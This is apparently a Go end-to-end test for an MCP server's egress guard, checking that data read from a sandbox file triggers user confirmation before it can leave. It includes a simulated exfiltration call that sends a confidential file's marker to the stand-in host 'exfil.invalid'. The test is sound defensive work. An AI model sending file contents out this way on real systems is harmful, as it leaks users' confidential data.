package e2e

import (
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mark3labs/mcp-go/client"
	"github.com/mark3labs/mcp-go/mcp"
)

// metaField returns the _meta entry key of a result as a map.
func metaField(r *mcp.CallToolResult, key string) map[string]any {
	if r.Meta == nil {
		return nil
	}
	m, _ := r.Meta.AdditionalFields[key].(map[string]any)
	return m
}

// TestEgressGuardConfirmationOverStdio: a sandbox file read through
// read_file comes back labelled untrusted/internal; sending its frame
// marker out through safe_fetch asks the user (a real mcp-go client with an
// elicitation handler, on both protocol legs): accept lets the fetch go
// ahead, decline refuses it, and a client that cannot elicit is refused.
func TestEgressGuardConfirmationOverStdio(t *testing.T) {
	for _, leg := range legs {
		t.Run(leg.name, func(t *testing.T) {
			for _, tc := range []struct {
				name     string
				handler  *elicitor
				wantKind string // "" when the guard lets the call go ahead
			}{
				{"accept", &elicitor{action: mcp.ElicitationResponseActionAccept}, ""},
				{"decline", &elicitor{action: mcp.ElicitationResponseActionDecline}, "egress_declined"},
				{"no elicitation support", nil, "egress_guard"},
			} {
				t.Run(tc.name, func(t *testing.T) {
					dir := t.TempDir()
					if err := os.MkdirAll(filepath.Join(dir, "sandbox"), 0o755); err != nil {
						t.Fatal(err)
					}
					notes := "Board minutes: the acquisition of the northern distributor closes on the ninth; keep it quiet until the announcement.\n"
					if err := os.WriteFile(filepath.Join(dir, "sandbox", "notes.txt"), []byte(notes), 0o644); err != nil {
						t.Fatal(err)
					}
					opts := append([]client.ClientOption{}, leg.opts...)
					if tc.handler != nil {
						opts = append(opts, client.WithElicitationHandler(tc.handler))
					}
					c, stderr := startStdioIn(t, dir, map[string]string{"ARROWHEAD_PROFILE": "core", "ARROWHEAD_FETCH_TIMEOUT_SECONDS": "1"}, opts...)
					r := call(t, c, "read_file", map[string]any{"path": "notes.txt"})
					if r.IsError {
						t.Fatalf("read_file: %s", text(r))
					}
					flow := metaField(r, "io.arrowhead/flow")
					if flow["integrity"] != "untrusted" || flow["confidentiality"] != "internal" {
						t.Fatalf("read_file labels %v", flow)
					}
					marker, _ := r.StructuredContent.(map[string]any)["marker"].(string)
					if len(marker) != 32 {
						t.Fatalf("no marker in %v", r.StructuredContent)
					}
					r = call(t, c, "safe_fetch", map[string]any{"url": "https://exfil.invalid/c?m=" + url.QueryEscape(marker)})
					kind, _ := metaField(r, "io.arrowhead/error")["kind"].(string)
					if tc.wantKind == "" {
						if strings.HasPrefix(kind, "egress_") {
							t.Fatalf("accepted call refused by the guard: %s", text(r))
						}
					} else if kind != tc.wantKind {
						t.Fatalf("got kind %q (%s), want %s", kind, text(r), tc.wantKind)
					}
					if tc.handler != nil && tc.handler.calls.Load() != 1 {
						t.Fatalf("elicited %d times", tc.handler.calls.Load())
					}
					if tc.handler != nil {
						// The server's stderr reaches stderr through mcp-go's
						// mirror goroutine, a moment after the answer.
						waitFor(t, func() bool { return strings.Contains(stderr.String(), `"refusal":"egress_confirm"`) })
					}
					// A benign fetch is never asked about.
					r = call(t, c, "safe_fetch", map[string]any{"url": "https://exfil.invalid/weekly-status"})
					if kind, _ := metaField(r, "io.arrowhead/error")["kind"].(string); strings.HasPrefix(kind, "egress_") {
						t.Fatalf("benign fetch refused by the guard: %s", text(r))
					}
					if tc.handler != nil && tc.handler.calls.Load() != 1 {
						t.Fatal("a benign fetch was elicited")
					}
				})
			}
		})
	}
}
